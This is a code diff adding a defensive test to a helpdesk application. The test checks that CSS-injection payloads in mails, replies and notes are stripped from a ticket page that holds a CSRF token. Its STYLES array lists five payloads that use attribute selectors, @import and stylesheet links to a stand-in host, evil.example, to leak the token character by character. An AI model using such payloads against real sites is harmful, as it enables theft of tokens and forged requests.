@@ -1,11 +1,11 @@
 //! Markup in everything that a stranger writes, and every page and answer that shows it.
 
-use crate::all_tickets;
 use crate::common::Role;
 use crate::common::markup::{fault, html_of, is_harmless, lists};
 use crate::common::sink::sink;
-use crate::common::wire::{HELP, Wire};
+use crate::common::wire::{HELP, Wire, plain};
 use crate::common::{Engine, both_engines};
+use crate::{all_tickets, newest};
 use bedside_desk::context::Permissions;
 use bedside_desk::jobs;
 use bedside_desk::links::{self, Purpose};
@@ -113,6 +113,34 @@ both_engines! {
         let found = agent.submit("/search", "/search", &[("q", "steal")]).await.expect(200);
         is_harmless("what is found", &found, "steal");
         assert!(found.text().contains("ticket-row"), "{}", found.text());
+    }
+
+    /// Styles in a mail, in an answer and in a note, which read a form's token letter by letter: none is on the page that has the
+    /// token, whose only styles are our own files.
+    async fn attack_18_no_style_from_outside_is_on_a_page_with_a_token(desk: Desk) {
+        const STYLES: [&str; 5] = [
+            "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
+            "<style>@import url('https://evil.example/a.css');</style>",
+            "<svg><style>meta[content^=a]{background:url(//evil.example/a)}</style></svg>",
+            "<link rel=stylesheet href='//evil.example/a'>",
+            "<p class=btn id=csrf style=\"background:url(//evil.example/a)\">Hello</p>",
+        ];
+        let wire = Wire::new(&desk).await;
+        let all = STYLES.concat();
+        let headers = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
+        wire.takes(plain("styles", headers, &format!("<html><head>{all}</head><body><p>A question</p>{all}</body></html>"))).await;
+        let view = newest(&desk).await;
+        let agent = desk.ctx(Role::Agent);
+        tickets::reply(&desk.app, &agent, view.ticket.id, Reply::new(all.as_str())).await.unwrap();
+        tickets::note(&desk.app, &agent, view.ticket.id, all.clone(), Vec::new()).await.unwrap();
+        let answer = desk.browser(Role::Agent).await.get(&format!("/tickets/{}", view.ticket.number)).await.expect(200);
+        is_harmless("a page with a token", &answer, "a style");
+        let page = answer.text();
+        assert!(page.contains("A question") && page.contains("name=\"csrf_token\""), "{page}");
+        assert!(!page.contains("<style") && !page.contains("id=\"csrf\""), "{page}");
+        let sheets: Vec<_> = page.match_indices("rel=\"stylesheet\"").collect();
+        assert_eq!(sheets.len(), page.matches("rel=\"stylesheet\" href=\"/assets/").count());
+        assert!(!sheets.is_empty());
     }
 
     /// Markup in a text of the clinic's and in what staff write: what goes out to patients runs nothing and loads nothing.
